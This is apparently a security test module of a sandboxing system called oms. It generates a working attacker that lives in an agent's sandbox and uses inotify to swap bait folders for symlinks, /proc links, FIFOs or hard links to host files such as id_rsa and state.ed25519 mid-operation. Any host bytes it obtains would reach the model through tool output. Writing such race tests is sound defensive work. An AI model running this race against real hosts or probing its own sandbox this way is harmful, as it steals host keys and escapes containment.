"""The attacker of the tree race (`tests/security/tree_race/`): a Python program that runs where an
agent runs — a command worker in its sandbox, the shell tool of a real agent CLI, a check of `oms
result verify`, a process left in a worktree — and swaps parts of the tree for links to host files
at the moment inotify shows oms reading it. `program(targets)` is its text, with the host paths it
aims at spliced in; it is run by the system's `python3` (in `/usr/bin` inside every sandbox).

Bait: for each depth (1, 2, 3) a folder of filler files (`aaa/f0000`, ..., opened first by whoever
stages the tree) and a folder `zzz/` holding a file named like the host file a round aims at
(`state.ed25519`, `id_rsa` or `secret.txt`): under `./`, `bait/` and `bait/x/`. A round arms one
depth and one kind of swap; when inotify reports a file of `aaa/` opened, accessed or deleted, it
swaps at once:

- `dir` / `procdir`: `zzz/` becomes a link to a host folder (or to it through `/proc/self/root/`);
- `file` / `procfile`: each file of `zzz/` becomes a link to the host file of its name;
- `fifo`: each file of `zzz/` becomes a FIFO; `hardlink`: a hard link to a filler file;
- `dirfifo`: `zzz/` itself becomes a FIFO.

Round n's kind changes every round, its depth too, and its target with the depth, shifted every 21
rounds: any 21 rounds in a row try every kind at every depth against every target, and 63 every
combination (a hand that runs 30 rounds of an operation tries them all).

Modes (argv[1]):
- `rounds [N [CHANNEL]]`: one long-lived attacker that re-arms, from round N (0), talking to the
  host through the folder CHANNEL (`$HOME`; a real CLI whose own sandbox keeps its home read-only
  uses a folder of its worktree that git ignores). For round n the host writes `go-<n>` (its
  `trigger`: `named`, a file of `aaa/` opened, read or deleted; `delete`, one deleted; `any`, the
  folder itself opened too); the attacker restores its bait, arms, writes `armed-<n>`; the host runs
  oms's operation and writes `done-<n>`; the attacker undoes its swap and writes `result-<n>`
  ({"swapped", "depth", "kind", "target"}). `readback` makes it write what it can read back
  (below) to `readback-out`; `stop` ends it. It waits on inotify, never polling: its host's
  operation has the machine's cores to itself.
- `bait`: make the bait in the current folder and exit (to commit it: a worktree whose bait is
  tracked).
- `check`: one shot, as a check of `oms result verify`: it leaves every trap in its checkout (links
  to host folders and files at every depth, through `/proc/self/root/` too, FIFOs, folders it cannot
  enter, a `.git` file) and exits; whatever it started dies with its sandbox.
- `readback BASE`: what the issue's attacker did once oms had committed through its links — read
  back every object of the repository its sandbox shows (all of them, reachable or not: a refused
  result's commit stays in the object store) and print each blob it did not write itself, as hex
  and as text, so that a host byte oms let in would travel on, through the agent CLI's tool
  output, to the model; it prints `READBACK <objects> <unexpected>` first.
"""

from __future__ import annotations

import json

SOURCE = r'''
import ctypes, json, os, select, stat, struct, sys, time

T = json.loads(__TARGETS__)
HOME = os.environ.get("HOME", "/oms/home")  # the channel to the host (`rounds`: its third argument)
FILLER = T["filler"]
NAMES = [name for _, name in T["files"]]
DEPTHS = {1: ".", 2: "bait", 3: "bait/x"}
KINDS = ("dir", "procdir", "file", "procfile", "fifo", "hardlink", "dirfifo")
IN_ACCESS, IN_OPEN, IN_DELETE = 0x1, 0x20, 0x200
IN_MOVED_TO, IN_CREATE = 0x80, 0x100
libc = ctypes.CDLL(None, use_errno=True)


def publish(name, doc):
    tmp = os.path.join(HOME, name + ".tmp")
    with open(tmp, "w") as f:
        json.dump(doc, f)
    os.rename(tmp, os.path.join(HOME, name))


def exists(name):
    return os.path.exists(os.path.join(HOME, name))


def quiet_remove(path):
    try:
        st = os.lstat(path)
    except FileNotFoundError:
        return
    if stat.S_ISDIR(st.st_mode):
        for entry in os.listdir(path):
            quiet_remove(os.path.join(path, entry))
        os.rmdir(path)
    else:
        os.unlink(path)


def bait(depth, target=None):
    """Make the bait of a depth as it should be (whatever a round or oms left there); its `zzz/`
    holds the file named like the host file of `target` (all three when None): git stops at a name
    the host folder does not have."""
    top = DEPTHS[depth]
    aaa, zzz, parked = (os.path.join(top, n) for n in ("aaa", "zzz", ".zzz-parked"))
    if os.path.lexists(zzz) and (os.path.islink(zzz) or not os.path.isdir(zzz)):
        os.unlink(zzz)  # a swap still standing
    if os.path.lexists(parked):
        if os.path.lexists(zzz):
            quiet_remove(parked)
        else:
            os.rename(parked, zzz)
    os.makedirs(aaa, exist_ok=True)
    os.makedirs(zzz, exist_ok=True)
    for i in range(FILLER):
        path = os.path.join(aaa, "f%04d" % i)
        if os.path.islink(path) or not os.path.isfile(path):
            if os.path.lexists(path):
                quiet_remove(path)
            with open(path, "w") as f:
                f.write("filler %d of depth %d\n" % (i, depth))
    wanted = NAMES if target is None else [NAMES[target]]
    for name in os.listdir(zzz):
        if name not in wanted:
            quiet_remove(os.path.join(zzz, name))
    for name in wanted:
        path = os.path.join(zzz, name)
        parked = os.path.join(zzz, "." + name + "-parked")
        if os.path.lexists(parked):
            if os.path.lexists(path):
                os.unlink(path)
            os.rename(parked, path)
        if os.path.lexists(path) and not stat.S_ISREG(os.lstat(path).st_mode):
            os.unlink(path)
        if not os.path.lexists(path):
            with open(path, "w") as f:
                f.write("the agent's own %s\n" % name)
    return aaa, zzz


def swap(depth, kind, target):
    """Swap the `zzz` of a depth for what `kind` says (aimed at host folder/file `target`)."""
    top = DEPTHS[depth]
    zzz = os.path.join(top, "zzz")
    folder = T["dirs"][target]
    if kind in ("dir", "procdir", "dirfifo"):
        os.rename(zzz, os.path.join(top, ".zzz-parked"))
        if kind == "dirfifo":
            os.mkfifo(zzz)
        else:
            os.symlink(("/proc/self/root" if kind == "procdir" else "") + folder, zzz)
        return
    for host_dir, name in T["files"]:
        path = os.path.join(zzz, name)
        if not os.path.lexists(path):
            continue
        os.rename(path, os.path.join(zzz, "." + name + "-parked"))
        if kind in ("file", "procfile"):
            through = "/proc/self/root" if kind == "procfile" else ""
            os.symlink(through + os.path.join(host_dir, name), path)
        elif kind == "fifo":
            os.mkfifo(path)
        else:
            os.link(os.path.join(top, "aaa", "f0000"), path)


def plan(n):
    """Round n's depth, kind and target (see the module docstring)."""
    kind = KINDS[n % len(KINDS)]
    depth = 1 + n % 3
    target = (n + n // (3 * len(KINDS))) % len(T["dirs"])
    return depth, kind, target


def watch(folder, mask):
    fd = libc.inotify_init1(os.O_CLOEXEC | os.O_NONBLOCK)
    libc.inotify_add_watch(fd, folder.encode(), mask)
    return fd


def drain(fd):
    """The events waiting on `fd`; True if any names a file (not its folder itself)."""
    named = False
    while True:
        try:
            buf = os.read(fd, 65536)
        except BlockingIOError:
            return named
        i = 0
        while i < len(buf):
            _wd, _mask, _cookie, size = struct.unpack_from("iIII", buf, i)
            named = named or size > 0
            i += 16 + size


def until(channel_fd, *names):
    """Wait, on inotify (a last look every half second), until one of `names` is in the channel."""
    while True:
        for name in names:
            if exists(name):
                return name
        select.select([channel_fd], [], [], 0.5)
        drain(channel_fd)


def rounds():
    global HOME
    for depth in DEPTHS:
        bait(depth)
    n = int(sys.argv[2]) if len(sys.argv) > 2 else 0
    if len(sys.argv) > 3:
        HOME = os.path.abspath(sys.argv[3])
        os.makedirs(HOME, exist_ok=True)
    channel = watch(HOME, IN_MOVED_TO | IN_CREATE)
    while True:
        got = until(channel, "go-%d" % n, "readback", "stop")
        if got == "stop":
            return
        if got == "readback":
            with open(os.path.join(HOME, "readback")) as f:
                base = json.load(f)["base"]
            os.unlink(os.path.join(HOME, "readback"))
            with open(os.path.join(HOME, "readback-out.tmp"), "w") as f:
                f.write(readback(base))
            os.rename(os.path.join(HOME, "readback-out.tmp"), os.path.join(HOME, "readback-out"))
            continue
        with open(os.path.join(HOME, "go-%d" % n)) as f:
            go = json.load(f)
        trigger = go.get("trigger")
        anything = trigger == "any"  # the folder itself opened counts too
        mask = IN_DELETE if trigger == "delete" else IN_ACCESS | IN_OPEN | IN_DELETE
        depth, kind, target = plan(n)
        named = None if go.get("committed") else target  # a committed bait is left as it is
        aaa, _ = bait(depth, named)
        fd = libc.inotify_init1(os.O_CLOEXEC | os.O_NONBLOCK)
        watched = [aaa]
        if trigger == "delete":  # a removal goes in its folders' listing order: watch them all
            tops = list(DEPTHS.values())
            watched += tops + [os.path.join(d, "aaa") for d in tops]
        for folder in watched:
            libc.inotify_add_watch(fd, folder.encode(), mask)
        drain(channel)
        publish("armed-%d" % n, {})
        swapped, error = False, None
        while not exists("done-%d" % n):
            ready, _, _ = select.select([fd, channel], [], [], 0.5)
            if channel in ready:
                drain(channel)
            if fd not in ready:
                continue
            if (drain(fd) or anything) and not swapped:
                try:
                    swap(depth, kind, target)
                    swapped = True
                except OSError as exc:  # oms removed what it swaps (a restore, a removal): a miss
                    error = repr(exc)
        os.close(fd)
        try:
            bait(depth, named)
        except OSError as exc:
            error = error or repr(exc)
        did = {"swapped": swapped, "depth": depth, "kind": kind, "target": target, "error": error}
        publish("result-%d" % n, did)
        n += 1


def readback(base):
    """What the agent can read back of the repository's objects (see the module docstring): every
    blob but those of commit `base` (what the repository held before the agent began) and those it
    wrote itself (its bait and filler, its links' targets), and no empty one."""
    import subprocess

    ours = [b"filler ", b"the agent's own "]
    for folder in T["dirs"]:
        ours += [folder.encode(), ("/proc/self/root" + folder).encode()]
    listed = subprocess.run(["git", "rev-list", "--objects", base], capture_output=True, check=True)
    known = {line.split()[0] for line in listed.stdout.splitlines() if line}
    every = subprocess.run(["git", "cat-file", "--batch-all-objects", "--batch"],
                           capture_output=True, check=True).stdout
    count, out, i = 0, [], 0
    while i < len(every):
        head = every[i:every.index(b"\n", i)]
        oid, kind, size = head.split()
        start = i + len(head) + 1
        data = every[start:start + int(size)]
        i = start + int(size) + 1
        count += 1
        if kind != b"blob" or oid in known or not data or any(data.startswith(p) for p in ours):
            continue
        shown = (oid.decode(), len(data), data[:512].hex(), data[:200])
        out.append("UNEXPECTED %s %d %s %r" % shown)
    return "\n".join(["READBACK %d %d" % (count, len(out))] + out) + "\n"


def traps():
    """A check's traps in its checkout: every kind of swap at every depth at once, left standing."""
    for depth in DEPTHS:
        bait(depth)
    for n, (depth, kind) in enumerate((d, k) for d in DEPTHS for k in KINDS if k != "hardlink"):
        try:
            bait(depth)
            swap(depth, kind, n % len(T["dirs"]))
        except OSError:
            pass
    os.makedirs("locked/inner", exist_ok=True)
    with open("locked/inner/x", "w") as f:
        f.write("x\n")
    os.chmod("locked/inner", 0)
    os.chmod("locked", 0o500)
    for n, folder in enumerate(T["dirs"]):
        os.symlink(folder, "top-link-%d" % n)
        os.symlink("/proc/self/root" + folder, "top-proc-%d" % n)
    with open(".git", "w") as f:
        f.write("gitdir: %s\n" % T["dirs"][0])
    print("traps left")


if sys.argv[1] == "rounds":
    rounds()
elif sys.argv[1] == "bait":
    for depth in DEPTHS:
        bait(depth)
elif sys.argv[1] == "readback":
    sys.stdout.write(readback(sys.argv[2]))
else:
    traps()
'''


def program(targets: dict[str, object]) -> str:
    """The attacker's text, aimed at `targets` ({"dirs": [...], "files": [[dir, name], ...],
    "filler": n})."""
    return "#!/usr/bin/python3\n" + SOURCE.replace("__TARGETS__", repr(json.dumps(targets)))
